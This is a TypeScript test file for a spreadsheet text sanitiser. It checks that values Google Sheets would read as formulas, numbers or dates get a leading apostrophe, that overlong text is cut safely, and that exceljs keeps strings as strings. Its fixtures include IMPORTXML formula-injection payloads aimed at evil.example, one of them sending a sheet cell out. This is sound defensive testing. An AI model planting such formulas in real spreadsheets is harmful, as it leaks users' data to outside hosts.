// Texts that must stay texts: an apostrophe where Google Sheets would read a formula, number or date; a cut at
// 50 000 characters; and the .xlsx writers, where exceljs stores every string as a string.
import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { CELL_TEXT_LIMIT, plainCell, plainText, TEXT_FORMAT } from "../../shared/text/plainText.ts";

describe("plainText", () => {
  it.each([
    ['=IMPORTXML("https://evil.example/?"&Педагоги!B2; "//a")'],
    ["+7 (999) 123-45-67"],
    ["-минус"],
    ["'в кавычке"],
    ["@адрес"],
    ["2026-09-01"],
    ["01.09.2026"],
    ["001"],
    ["50%"],
    [".5"],
    ["TRUE"],
    [" ложь "],
  ])("%j gets the apostrophe Sheets reads as «this is text»", (text) => {
    expect(plainText(text)).toBe(`'${text}`);
  });

  it.each([["Иванова Мария Петровна"], ["МБОУ СОШ № 1"], ["Ошибка («ОО»): «=1+1» — …"], [""], ["e-mail"]])(
    "%j is written as it is",
    (text) => expect(plainText(text)).toBe(text),
  );

  it("a plain-text cell (number format «@», set before the value) takes any text as it is", () => {
    expect(plainText("=1+1", TEXT_FORMAT)).toBe("=1+1");
    expect(plainText("30.11.2026", TEXT_FORMAT)).toBe("30.11.2026");
  });

  it("cuts a text longer than a cell holds, never inside a surrogate pair", () => {
    const long = "я".repeat(CELL_TEXT_LIMIT - 3) + "😀".repeat(10);
    const cut = plainText(long);
    expect(cut.length).toBeLessThanOrEqual(CELL_TEXT_LIMIT);
    expect(cut.endsWith("…")).toBe(true);
    expect(/[\uD800-\uDBFF]…$/u.test(cut)).toBe(false);
    expect([...cut.slice(0, -1)].every((ch) => ch === "я" || ch === "😀")).toBe(true);
  });

  it("leaves numbers, booleans and dates alone", () => {
    const date = new Date(2026, 8, 1);
    expect([plainCell(5), plainCell(true), plainCell(date), plainCell(null)]).toEqual([5, true, date, null]);
  });

  it("an .xlsx string cell stays a string: exceljs writes strings as strings, never formulas, so its writers need no apostrophe", async () => {
    const text = '=IMPORTXML("https://evil.example/"; "//a")';
    const book = new ExcelJS.Workbook();
    book.addWorksheet("Лист1").getCell("A1").value = text;
    const read = new ExcelJS.Workbook();
    await read.xlsx.load(await book.xlsx.writeBuffer());
    const cell = read.getWorksheet("Лист1")!.getCell("A1");
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.formula).toBeUndefined();
    expect(cell.value).toBe(text);
  });
});
